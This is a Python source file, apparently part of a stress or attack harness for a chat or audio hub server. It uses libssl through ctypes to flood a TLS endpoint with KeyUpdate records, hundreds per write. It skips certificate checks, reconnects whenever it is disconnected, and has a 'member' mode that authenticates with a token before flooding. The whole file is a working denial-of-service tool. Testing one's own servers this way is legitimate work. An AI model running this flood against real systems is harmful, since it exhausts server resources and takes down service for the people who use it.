"""Attacks by KeyUpdate records of TLS (RFC 8446, section 4.6.3), which Python's own TLS cannot send: libssl over memory, many at once."""
from __future__ import annotations

import ctypes
import ctypes.util
import select
import socket
import time
from ctypes import c_char_p, c_int, c_long, c_void_p
from typing import Any

import hub_wire

_ssl = ctypes.CDLL(ctypes.util.find_library("ssl") or "libssl.so.3")
_crypto = ctypes.CDLL(ctypes.util.find_library("crypto") or "libcrypto.so.3")
for _function, _result, *_arguments in (
        (_ssl.TLS_client_method, c_void_p), (_ssl.SSL_CTX_new, c_void_p, c_void_p), (_ssl.SSL_new, c_void_p, c_void_p),
        (_ssl.SSL_set_bio, None, c_void_p, c_void_p, c_void_p), (_ssl.SSL_set_connect_state, None, c_void_p),
        (_ssl.SSL_do_handshake, c_int, c_void_p), (_ssl.SSL_key_update, c_int, c_void_p, c_int),
        (_ssl.SSL_write, c_int, c_void_p, c_char_p, c_int), (_ssl.SSL_free, None, c_void_p),
        (_crypto.BIO_new, c_void_p, c_void_p), (_crypto.BIO_s_mem, c_void_p), (_crypto.BIO_read, c_int, c_void_p, c_void_p, c_int),
        (_crypto.BIO_write, c_int, c_void_p, c_char_p, c_int), (_crypto.BIO_ctrl, c_long, c_void_p, c_int, c_long, c_void_p),
        (_crypto.ERR_clear_error, None)):
    _function.restype, _function.argtypes = _result, _arguments

_PENDING = 10  # BIO_CTRL_PENDING
_NOT_REQUESTED, _REQUESTED = 0, 1  # SSL_KEY_UPDATE_*
_context = _ssl.SSL_CTX_new(_ssl.TLS_client_method())
_CHUNK = 400  # records in a write


class _Connection:
    """TLS by hand, without a look at the certificate."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.socket = socket.create_connection(address, 2)
        self.socket.settimeout(0.5)
        self.ssl = _ssl.SSL_new(_context)
        self.incoming, self.outgoing = (_crypto.BIO_new(_crypto.BIO_s_mem()) for _ in range(2))
        _ssl.SSL_set_bio(self.ssl, self.incoming, self.outgoing)
        _ssl.SSL_set_connect_state(self.ssl)
        while _ssl.SSL_do_handshake(self.ssl) != 1:
            self.flush()
            data = self.socket.recv(16_384)
            if not data:
                raise ConnectionError("the handshake failed")
            _crypto.BIO_write(self.incoming, data, len(data))
        self.flush()

    def flush(self) -> None:
        size = _crypto.BIO_ctrl(self.outgoing, _PENDING, 0, None)
        memory = ctypes.create_string_buffer(max(1, size))
        _crypto.BIO_read(self.outgoing, memory, size)
        self.socket.sendall(memory.raw[:size])

    def say(self, message: bytes) -> None:
        _ssl.SSL_write(self.ssl, message, len(message))
        self.flush()

    def update(self, kind: int) -> None:
        """Many of them; what the host says is left unread by TLS, and not by the socket."""
        for _ in range(_CHUNK):
            if _ssl.SSL_key_update(self.ssl, kind) != 1 or _ssl.SSL_do_handshake(self.ssl) != 1:
                raise ConnectionError("libssl does not go on")
        while select.select([self.socket], [], [], 0)[0]:
            if not self.socket.recv(65_536):
                raise ConnectionError("put out")
        self.flush()

    def close(self) -> None:
        _ssl.SSL_free(self.ssl)
        self.socket.close()
        _crypto.ERR_clear_error()


def _flood(target: dict[str, Any], seconds: float, kind: int, is_member: bool) -> dict[str, Any]:
    """One connection; who is put out comes again, five times a second at most."""
    address, records, connections = (target["host"], target["port"]), 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        begin = time.monotonic()
        connection = None
        try:
            connection = _Connection(address)
            connections += 1
            if is_member:
                connection.say(hub_wire.hello(target["room"], f"updater {connections}", target["token"]))
                select.select([connection.socket], [], [], 2)
                connection.say(hub_wire.publish_opus(1, hub_wire.FIRST_AUDIO_SLOT))
            while time.monotonic() < end:
                records += _CHUNK
                connection.update(kind)
        except OSError:
            pass
        if connection:
            connection.close()
        time.sleep(max(0.0, min(begin + 0.2, end) - time.monotonic()))
    return {"did": f"{records / seconds:,.0f} KeyUpdates a second, {connections} connections", "effort": records}


def guest(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    """Wants an answer to each."""
    return _flood(target, seconds, _REQUESTED, is_member=False)


def member(target: dict[str, Any], seconds: float) -> dict[str, Any]:
    return _flood(target, seconds, _NOT_REQUESTED, is_member=True)
